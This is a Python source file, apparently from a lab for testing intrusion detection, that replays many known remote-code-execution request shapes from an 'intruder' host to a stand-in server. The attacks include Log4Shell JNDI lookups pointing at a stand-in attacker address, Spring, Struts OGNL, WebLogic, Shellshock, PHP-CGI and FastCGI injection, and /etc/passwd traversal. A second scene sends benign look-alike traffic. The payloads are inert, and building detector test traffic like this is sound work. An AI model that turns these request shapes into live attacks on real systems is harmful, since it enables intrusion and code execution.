"""Known remote code executions: the public request shapes with inert payloads, sent by curl to stand-in servers; php-fpm and php-cgi are real."""

import struct

from .common import begin
from .scenes import scene
from .web import curl, json, reply, site

NEEDS = {"/usr/sbin/php-fpm8.2": "php8.2-fpm"}
JSON = ["Content-Type: application/json"]
FORM = ["Content-Type: application/x-www-form-urlencoded"]


def php_fpm(lab, host):
    conf = lab.write("fpm.conf", f"[global]\npid = {lab.path('fpm.pid')}\nerror_log = {lab.path('fpm.err')}\ndaemonize = no\n"
                     "[www]\nuser = nobody\ngroup = nogroup\nlisten = 0.0.0.0:9000\npm = static\npm.max_children = 1\n")
    lab.write("www/index.php", "<?php echo 'hello '.($_GET['name'] ?? 'you');")
    host.start("php-fpm8.2", "-n", "-y", conf, "-F", port=9000)


def fastcgi(script, values=None, query="", body=b""):
    """One FastCGI request, as a web server (or whoever reaches the port) sends it."""
    def pair(k, v):
        k, v = k.encode(), v.encode()
        return b"".join(bytes([len(x)]) if len(x) < 128 else struct.pack(">I", len(x) | 1 << 31) for x in (k, v)) + k + v

    def record(kind, content):
        return struct.pack(">BBHHBB", 1, kind, 1, len(content), 0, 0) + content

    env = {"SCRIPT_FILENAME": script, "REQUEST_METHOD": "POST" if body else "GET", "QUERY_STRING": query, "CONTENT_LENGTH": str(len(body)), "SERVER_PROTOCOL": "HTTP/1.1", **(values or {})}
    return (record(1, struct.pack(">HB5x", 1, 0)) + record(4, b"".join(pair(k, v) for k, v in env.items())) + record(4, b"") + (record(5, body) if body else b"") + record(5, b""))


def server(lab):
    web = lab.host("web", 20)
    routes = [(r"^POST /ws/v1", json("", 202)), (r"^GET .*\.class", reply(200, b"\xca\xfe\xba\xbe\0\0\0\x34inert", "application/java-vm")), (r"", reply(200, "<html><body>ok</body></html>", server="Apache/2.4.49 (Unix)"))]
    for port in (80, 8080, 9999):
        site(web, port, routes)

    def ldap(c):
        c.recv(4096)
        c.sendall(bytes.fromhex("300c02010161070a010004000400"))
        c.recv(4096)

        def tlv(tag, b):
            return bytes([tag]) + (bytes([len(b)]) if len(b) < 128 else bytes([0x81, len(b)])) + b

        def attribute(name, value):
            return tlv(0x30, tlv(4, name) + tlv(0x31, tlv(4, value)))

        entry = tlv(4, b"x") + tlv(0x30, attribute(b"javaClassName", b"foo") + attribute(b"javaCodeBase", b"http://10.77.0.66:8080/") + attribute(b"objectClass", b"javaNamingReference") + attribute(b"javaFactory", b"Inert"))
        c.sendall(tlv(0x30, b"\x02\x01\x02" + tlv(0x64, entry)) + bytes.fromhex("300c02010265070a010004000400"))
        c.recv(4096)

    web.listen(389, ldap)
    for port in (8009, 61616, 4506, 9229):
        web.listen(port, lambda c: c.recv(4096) and c.sendall(b"AB\0\x02\x05\x01"))
    return web


@scene("attacks-rce", **NEEDS)
def attacks(lab):
    """Log4Shell and its spellings, Spring, Struts, Confluence, PHP, Jenkins, GitLab, Grafana, WebLogic, Solr, YARN, Ray and more"""
    intruder, web = lab.host("intruder", 66), server(lab)
    php_fpm(lab, web)
    begin(lab)
    u = f"http://{web.ip}"

    def get(path, **kw):
        curl(intruder, u + path, **kw)

    def post(path, body, headers=FORM, **kw):
        curl(intruder, u + path, body, headers=headers, **kw)

    ldap = "ldap://10.77.0.66:1389/x"
    get("/login?user=$%7Bjndi:" + ldap + "%7D")
    get("/", agent="${jndi:" + ldap + "}")
    post("/login", "user=%24%7Bjndi%3Aldap%3A%2F%2F10.77.0.66%2Fx%7D&password=x")
    get("/", headers=["X-Api-Version: ${${lower:j}${lower:n}${lower:d}i:${lower:l}dap://10.77.0.66/x}"])
    get("/search?q=$%7B$%7B::-j%7D$%7B::-n%7D$%7B::-d%7D$%7B::-i%7D:ldap://10.77.0.66/x%7D")
    intruder.talk(web.ip, 389, bytes.fromhex("300c020101600702010304008000"), bytes.fromhex("30250201026320040178 0a0100 0a0103 020100 020100 010100 870b6f626a656374436c6173733000".replace(" ", "")), b"\x30\x05\x02\x01\x03\x42\x00")
    curl(intruder, f"{u}:8080/Inert.class", agent="Java/1.8.0_181")
    post("/greeting", "class.module.classLoader.resources.context.parent.pipeline.first.pattern=inert&class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp")
    get("/greeting?class.module.classLoader.DefaultAssertionStatus=x")
    post("/functionRouter", "x", headers=["spring.cloud.function.routing-expression: T(java.lang.Runtime).getRuntime().exec(\"true\")"])
    post("/actuator/gateway/routes/x", '{"id":"x","filters":[{"name":"AddResponseHeader","args":{"name":"R","value":"#{new String(T(java.lang.Runtime).getRuntime().exec(\\"true\\"))}"}}]}', JSON)
    post("/actuator/env", '{"name":"spring.cloud.bootstrap.location","value":"http://10.77.0.66/x.yml"}', JSON)
    get("/actuator/heapdump")
    post("/upload.action", "x", headers=["Content-Type: %{(#nike='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='true')}"])
    get("/$%7B(%23_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('true'))%7D/help.action")
    post("/index.action", "id=%25%7B(%23im%3D%23application['org.apache.tomcat.InstanceManager'])%7D".replace("%25%7B", "%25{"))
    get("/%24%7B%40java.lang.Runtime%40getRuntime%28%29.exec%28%22true%22%29%7D/")
    get("/server-info.action?bootstrapStatusProvider.applicationConfig.setupComplete=false")
    post("/invoker/readonly", b"\xac\xed\x00\x05sr\x00\x32org.apache.commons.collections.map.LazyMapinert", ["Content-Type: application/octet-stream"])
    name, url = b"org.springframework.context.support.ClassPathXmlApplicationContext", b"http://10.77.0.66:8080/x.xml"
    wire = b"\x1f" + b"\0\0\0\0\0\0\0\0\0\x01\x01" + struct.pack(">H", len(name)) + name + b"\x01" + struct.pack(">H", len(url)) + url
    intruder.talk(web.ip, 61616, struct.pack(">I", len(wire)) + wire)
    ajp = b"\x02\x02\x00\x08HTTP/1.1\0\x00\x01/\0\x0a\x00\x09" + b"10.77.0.66\0\xff\xff\x00\x0910.77.0.20\x00\x00\x50\x00\x00\x00\x0a\x00\x21javax.servlet.include.request_uri\0\x00\x01/\0\x0a\x00\x1fjavax.servlet.include.path_info\0\x00\x0fWEB-INF/web.xml\0\xff"
    intruder.talk(web.ip, 8009, b"\x12\x34" + struct.pack(">H", len(ajp)) + ajp)
    curl(intruder, f"{u}:8080/inert.jsp/", "inert", method="PUT")
    post("/wls-wsat/CoordinatorPortType", '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Header><work:WorkContext xmlns:work="http://bea.com/2004/06/soap/workarea/">'
         '<java><object class="java.lang.ProcessBuilder"><array class="java.lang.String" length="1"><void index="0"><string>true</string></void></array></object></java></work:WorkContext></soapenv:Header></soapenv:Envelope>', ["Content-Type: text/xml"])
    get("/console/css/%252e%252e%252fconsole.portal?_nfpb=true")
    get("/geoserver/wfs?service=WFS&version=2.0.0&request=GetPropertyValue&typeNames=sf:archsites&valueReference=exec(java.lang.Runtime.getRuntime(),'true')")
    get("/cgi-bin/status", agent="() { :; }; echo; /bin/true")
    get("/index.php?s=/index/think%5Capp/invokefunction&function=call_user_func_array&vars[0]=phpinfo&vars[1][]=1")
    post("/php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input", "<?php echo 1;")
    post("/index.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input", "<?php echo 1;")
    intruder.talk(web.ip, 9000, fastcgi(lab.path("www/index.php"), {"PHP_VALUE": "auto_prepend_file = php://input", "PHP_ADMIN_VALUE": "allow_url_include = On"}, body=b"<?php echo 'inert';"))
    post("/_ignition/execute-solution", '{"solution":"Facade\\\\Ignition\\\\Solutions\\\\MakeViewVariableOptionalSolution","parameters":{"variableName":"x","viewFile":"php://filter/read=consumed/resource=../storage/logs/laravel.log"}}', JSON)
    post("/user/register?element_parents=account/mail/%23value&ajax_form=1&_wrapper_format=drupal_ajax", "form_id=user_register_form&_drupal_ajax=1&mail[#post_render][]=printf&mail[#type]=markup&mail[#markup]=inert")
    post("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "<?php echo md5('inert');")
    post("/", '--b\r\nContent-Disposition: form-data; name="0"\r\n\r\n{"then":"$1:__proto__:then","status":"resolved_model","value":"{}","_response":{"_prefix":"inert"}}\r\n--b\r\nContent-Disposition: form-data; name="1"\r\n\r\n"$@0"\r\n--b--\r\n',
         ["Next-Action: x", "Content-Type: multipart/form-data; boundary=b"])
    post("/api/timelion/run", '{"sheet":[".es(*).props(label.__proto__.env.AAAA=\'inert\')"],"time":{}}', JSON + ["kbn-xsrf: x"])
    post("/script", "script=println+%22true%22.execute().text")
    post("/cli?remoting=false", b"\x00\x00\x00\x06\x00\x00\x04help\x00\x00\x00\x0e\x00\x00\x0c@/etc/passwd\x00\x00\x00\x05\x02\x00\x03UTF\x00\x00\x00\x00\x03", ["Side: upload", "Session: 0000"])
    post("/uploads/user", b'--b\r\nContent-Disposition: form-data; name="file"; filename="x.jpg"\r\nContent-Type: image/jpeg\r\n\r\nAT&TFORM\x00\x00\x03\xafDJVMDIRM(metadata\n\t(Copyright "\\\n" . qx{true} . \\\n" b ") )\r\n--b--\r\n', ["Content-Type: multipart/form-data; boundary=b"])
    get("/public/plugins/alertlist/../../../../../../etc/passwd")
    get("/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd")
    get("/cgi-bin/%2e%2e/%2e%2e/%2e%2e/etc/passwd")
    get("/icons/%%32%65%%32%65/%%32%65%%32%65/etc/passwd")
    get("/solr/core/select?q=1&wt=velocity&v.template=custom&v.template.custom=%23set($x=%27%27)")
    post("/solr/core/config", '{"update-queryresponsewriter":{"name":"velocity","params.resource.loader.enabled":"true"}}', JSON)
    post("/ws/v1/cluster/apps", '{"application-id":"application_1_1","application-name":"x","am-container-spec":{"commands":{"command":"true"}},"application-type":"YARN"}', JSON)
    post("/api/experimental/dags/example_trigger_target_dag/dag_runs", '{"conf":{"message":"\\"; true; #"}}', JSON)
    post("/minio/bootstrap/v1/verify", "")
    post("/nacos/v1/auth/users?username=x&password=inert", "", agent="Nacos-Server")
    curl(intruder, u + "/v1/agent/check/register", '{"Name":"x","Args":["true"],"Interval":"5s"}', method="PUT", headers=JSON)
    post("/api/jobs/", '{"entrypoint":"true","runtime_env":{}}', JSON)
    post("/api/terminals", "")
    post("/wd/hub/session", '{"capabilities":{"alwaysMatch":{"browserName":"chrome","goog:chromeOptions":{"binary":"/usr/bin/python3","args":["-cprint(1)"]}}}}', JSON)
    curl(intruder, f"{u}:9999/run", '{"jobId":1,"executorHandler":"x","glueType":"GLUE_SHELL","glueSource":"true","logId":1}', headers=JSON)
    post("/druid/indexer/v1/sampler", '{"type":"index","spec":{"dataSchema":{"transformSpec":{"filter":{"type":"javascript","dimension":"a","function":"function(value){return true}","":{"enabled":true}}}}}}', JSON)
    intruder.talk(web.ip, 4506, b"\xff\x00\x00\x00\x00\x00\x00\x00\x01\x7f\x03\x00NULL" + b"\x00" * 48, b"\x00\x2d\x82\xa3enc\xa5clear\xa4load\x81\xa3cmd\xb0_prep_auth_info")
    intruder.talk(web.ip, 9229, b"GET /0f2c936f-b1cd-4ac9-aab3-f63b0f33d55e HTTP/1.1\r\nHost: 10.77.0.20:9229\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: aW5lcnRpbmVydGluZXJ0aQ==\r\n\r\n")


@scene("benign-rce", **NEEDS)
def benign(lab):
    """the same applications in daily use, and text that only talks about the attacks"""
    user, web = lab.host("user", 30), server(lab)
    php_fpm(lab, web)

    def directory(c):
        c.recv(4096)
        c.sendall(bytes.fromhex("300c02010161070a010004000400"))
        c.recv(4096)
        c.sendall(bytes.fromhex("300c02010265070a010004000400"))

    web.listen(390, directory)
    begin(lab)
    u = f"http://{web.ip}"

    def get(path, **kw):
        curl(user, u + path, **kw)

    def post(path, body, headers=FORM, **kw):
        curl(user, u + path, body, headers=headers, **kw)

    get("/wiki/Log4Shell?section=jndi:ldap")
    get("/docs/jndi", agent="docs-bot/1.0 (reads about jndi:ldap)")
    post("/comments", "text=the+lookup+jndi:ldap+was+removed+in+2.17&page=%7Bid%7D")
    get("/", headers=["X-Template: ${user.name} ${date}"])
    get("/mail?body=Hello%20$%7Bname%7D,%20your%20order%20$%7Border%7D")
    user.talk(web.ip, 390, bytes.fromhex("300c020101600702010304008000"), bytes.fromhex("30250201026320040178 0a0100 0a0103 020100 020100 010100 870b6f626a656374436c6173733000".replace(" ", "")), b"\x30\x05\x02\x01\x03\x42\x00", pause=0.05)
    curl(user, f"{u}:8080/applet/Clock.class", agent="Mozilla/5.0 (X11; Linux x86_64)")
    curl(user, f"{u}:8080/maven/metadata.xml", agent="Java/17.0.9")
    post("/course", "class=module-3&classLoader=none&room=12")
    get("/api/class.module?loader=1")
    post("/functionRouter", "x", headers=["spring.cloud.function.routing-expression: headers['type']"])
    post("/actuator/gateway/routes/shop", '{"id":"shop","uri":"http://shop","predicates":[{"name":"Path","args":{"p":"/shop/**"}}]}', JSON)
    post("/actuator/env", '{"name":"feature.dark","value":"on"}', JSON)
    get("/actuator/health"), get("/actuator/env"), get("/docs/heapdump.html")
    post("/upload.action", "--x\r\nContent-Disposition: form-data; name=\"f\"\r\n\r\n#1 {a}\r\n--x--\r\n", headers=["Content-Type: multipart/form-data; boundary=x"])
    get("/price?format=%25%7Bprice%7D&color=%23fff")
    post("/index.action", "id=7&package=org.apache.struts2")
    get("/templates/$%7Bname%7D"), get("/javadoc/@java.lang.Runtime"), get("/sale/50%%32off")
    get("/server-info.action")
    post("/invoker/readonly", b"\xac\xed\x00\x05t\x00\x05hello", ["Content-Type: application/octet-stream"])
    wire = b"\x01ActiveMQ\x00\x00\x00\x0c\x01\x00\x00\x00\x10\x00\x00\x00\x00"
    user.talk(web.ip, 61616, struct.pack(">I", len(wire)) + wire)
    ajp = b"\x02\x02\x00\x08HTTP/1.1\0\x00\x06/shop/\0\x00\x0a10.77.0.30\0\xff\xff\x00\x0a10.77.0.20\0\x00\x50\x00\x00\x00\xff"
    user.talk(web.ip, 8009, b"\x12\x34" + struct.pack(">H", len(ajp)) + ajp)
    curl(user, f"{u}:8080/files/report.jspec", "inert", method="PUT")
    curl(user, f"{u}:8080/page.jsp")
    post("/wls-wsat/CoordinatorPortType", "<soapenv:Envelope xmlns:soapenv=\"http://schemas.xmlsoap.org/soap/envelope/\"><soapenv:Body/></soapenv:Envelope>", ["Content-Type: text/xml"])
    get("/console/css/login.css")
    get("/geoserver/wfs?service=WFS&version=2.0.0&request=GetFeature&typeNames=sf:archsites")
    get("/search?request=exec(java)")
    get("/cgi-bin/status", headers=["X-Note: function() { return 1 }"])
    get("/index.php?s=/index/think/show&function=list")
    get("/index.php?q=%ADdiet"), get("/list.php?-desc")
    user.talk(web.ip, 9000, fastcgi(lab.path("www/index.php"), {"PHP_VALUE": "memory_limit = 64M"}, "name=anna"))
    post("/_ignition/execute-solution", '{"solution":"x","parameters":{"variableName":"x","viewFile":"/var/www/resources/views/a.blade.php"}}', JSON)
    get("/_ignition/health-check")
    post("/user/register?ajax_form=1", "form_id=user_register_form&mail=anna@example.org&color=#post_render")
    get("/vendor/phpunit/phpunit/README.md")
    post("/", "[]", ["Next-Action: 7f3b0c2d9e", "Content-Type: text/plain;charset=UTF-8"])
    post("/comments", "text=about+__proto__+pollution+and+$1:constructor")
    post("/api/timelion/run", '{"sheet":[".es(*).label(count)"],"time":{}}', JSON + ["kbn-xsrf: x"])
    post("/job/deploy/build", "script=none&delay=0sec")
    post("/script", "script=deploy&version=12")
    post("/cli?remoting=false", b"\x00\x00\x00\x09\x00\x00\x07version\x00\x00\x00\x00\x03", ["Side: upload", "Session: 0000"])
    post("/uploads/user", b"--b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"x.djvu\"\r\n\r\nAT&TFORM\x00\x00\x03\xafDJVMDIRM\r\n--b--\r\n", ["Content-Type: multipart/form-data; boundary=b"])
    get("/public/plugins/alertlist/img/icn.svg")
    get("/cgi-bin/%2e/status"), get("/icons/50%25%20off.png"), get("/static/a/../b.css"), get("/static/%2e%2e/b.css")
    get("/solr/core/select?q=velocity&wt=json")
    post("/solr/core/config", '{"set-property":{"updateHandler.autoCommit.maxTime":15000}}', JSON)
    get("/ws/v1/cluster/apps?states=RUNNING")
    post("/api/experimental/dags/nightly/dag_runs", '{"conf":{"message":"hello"}}', JSON)
    post("/api/experimental/dags/example_trigger_target_dag/dag_runs", '{"conf":{"message":"hello"}}', JSON)
    get("/minio/health/live")
    get("/nacos/v1/ns/instance/list?serviceName=shop", agent="Nacos-Java-Client:v2.2.0")
    curl(user, u + "/v1/agent/check/register", '{"Name":"web","HTTP":"http://10.77.0.20/","Interval":"5s"}', method="PUT", headers=JSON)
    get("/api/jobs/")
    get("/api/terminals"), post("/api/sessions", '{"path":"a.ipynb"}', JSON)
    post("/wd/hub/session", '{"capabilities":{"alwaysMatch":{"browserName":"chrome","goog:chromeOptions":{"binary":"/usr/bin/google-chrome","args":["--headless"]}}}}', JSON)
    curl(user, f"{u}:9999/run", '{"jobId":1,"executorHandler":"nightly","glueType":"BEAN","logId":1}', headers=JSON)
    post("/druid/indexer/v1/sampler", '{"type":"index","spec":{"dataSchema":{"dataSource":"s"}}}', JSON)
    user.talk(web.ip, 4506, b"\xff\x00\x00\x00\x00\x00\x00\x00\x01\x7f\x03\x00NULL" + b"\x00" * 48, b"\x00\x1a\x82\xa3enc\xa5clear\xa4load\x81\xa3cmd\xa5_auth")
    user.talk(web.ip, 9229, b"GET /json/version HTTP/1.1\r\nHost: 10.77.0.20:9229\r\n\r\n")
